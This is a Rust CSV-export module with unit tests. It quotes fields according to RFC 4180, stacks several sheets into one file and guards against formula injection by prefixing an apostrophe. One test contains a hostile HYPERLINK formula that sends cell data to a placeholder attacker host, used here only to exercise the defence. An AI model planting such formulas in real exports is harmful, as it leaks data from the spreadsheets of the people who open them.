//! CSV by RFC 4180: CRLF line ends; a field with a comma, quote, CR or LF is quoted and its
//! quotes doubled. Several sheets go into one file as stacked sections: each starts with
//! a header row whose first field is `section`, and every data row starts with the sheet
//! name; all records are padded to the same number of fields, as the RFC asks.
//!
//! Text cells that start like a formula are neutralised with a leading apostrophe (see
//! [`neutralise`]); numbers are written as they are.

use std::io::{self, Write};

use super::{Cell, Sheet};

/// Writes records one at a time (nothing is buffered beyond the writer's own buffer).
#[derive(Debug)]
pub struct CsvWriter<W: Write> {
    out: W,
}

impl<W: Write> CsvWriter<W> {
    pub fn new(out: W) -> Self {
        Self { out }
    }

    pub fn record<'a>(&mut self, fields: impl IntoIterator<Item = &'a str>) -> io::Result<()> {
        for (i, field) in fields.into_iter().enumerate() {
            if i > 0 {
                self.out.write_all(b",")?;
            }
            if field.contains([',', '"', '\r', '\n']) {
                self.out.write_all(b"\"")?;
                self.out.write_all(field.replace('"', "\"\"").as_bytes())?;
                self.out.write_all(b"\"")?;
            } else {
                self.out.write_all(field.as_bytes())?;
            }
        }
        self.out.write_all(b"\r\n")
    }

    pub(crate) fn flush(&mut self) -> io::Result<()> {
        self.out.flush()
    }

    pub fn into_inner(self) -> W {
        self.out
    }
}

/// A text cell that a spreadsheet would read as a formula (`=`, `+`, `-`, `@`, or a tab or
/// carriage return before one) gets a leading apostrophe, which spreadsheets show as text
/// and do not display: a `re_id` such as `=HYPERLINK(…)` cannot become a live link.
pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

pub(crate) fn render(cell: &Cell) -> String {
    match cell {
        Cell::Text(s) => neutralise(s).into_owned(),
        Cell::Int(i) => i.to_string(),
        Cell::Float(f) => f.to_string(),
        Cell::Empty => String::new(),
    }
}

/// All sheets as one CSV document.
pub fn write_csv(sheets: &[Sheet], out: impl Write) -> io::Result<()> {
    let width = 1 + sheets.iter().map(|s| s.headers.len()).max().unwrap_or(0);
    let mut csv = CsvWriter::new(out);
    let pad = |mut fields: Vec<String>| {
        fields.resize(width, String::new());
        fields
    };
    for sheet in sheets {
        let header = pad(std::iter::once("section".to_owned())
            .chain(sheet.headers.iter().map(|h| (*h).to_owned()))
            .collect());
        csv.record(header.iter().map(String::as_str))?;
        for row in &sheet.rows {
            let fields = pad(std::iter::once(sheet.name.to_owned())
                .chain(row.iter().map(render))
                .collect());
            csv.record(fields.iter().map(String::as_str))?;
        }
    }
    csv.into_inner().flush()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn record(fields: &[&str]) -> String {
        let mut csv = CsvWriter::new(Vec::new());
        csv.record(fields.iter().copied()).unwrap();
        String::from_utf8(csv.into_inner()).unwrap()
    }

    #[test]
    fn fields_with_commas_quotes_or_line_breaks_are_quoted_and_quotes_doubled() {
        assert_eq!(
            record(&["plain", "a,b", "say \"hi\"", "two\nlines", ""]),
            "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\r\n"
        );
    }

    #[test]
    fn text_that_starts_like_a_formula_is_written_as_text() {
        for (raw, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
                "\"'=HYPERLINK(",
            ),
            ("+62812", "'+62812"),
            ("-1+2", "'-1+2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "\"'\r=1\""),
        ] {
            let out = render(&Cell::Text(raw.into()));
            assert!(record(&[&out]).starts_with(written), "{raw:?} -> {out:?}");
        }
        assert_eq!(render(&Cell::Text("REID_1".into())), "REID_1");
        assert_eq!(render(&Cell::Int(-5)), "-5", "numbers stay numbers");
    }

    #[test]
    fn sections_are_padded_to_one_width() {
        let sheets = [
            Sheet {
                name: "A",
                headers: vec!["x"],
                rows: vec![vec![Cell::Int(1)]],
            },
            Sheet {
                name: "B",
                headers: vec!["y", "z"],
                rows: vec![vec![Cell::Float(0.5), Cell::Empty]],
            },
        ];
        let mut out = Vec::new();
        write_csv(&sheets, &mut out).unwrap();
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "section,x,\r\nA,1,\r\nsection,y,z\r\nB,0.5,\r\n"
        );
    }
}
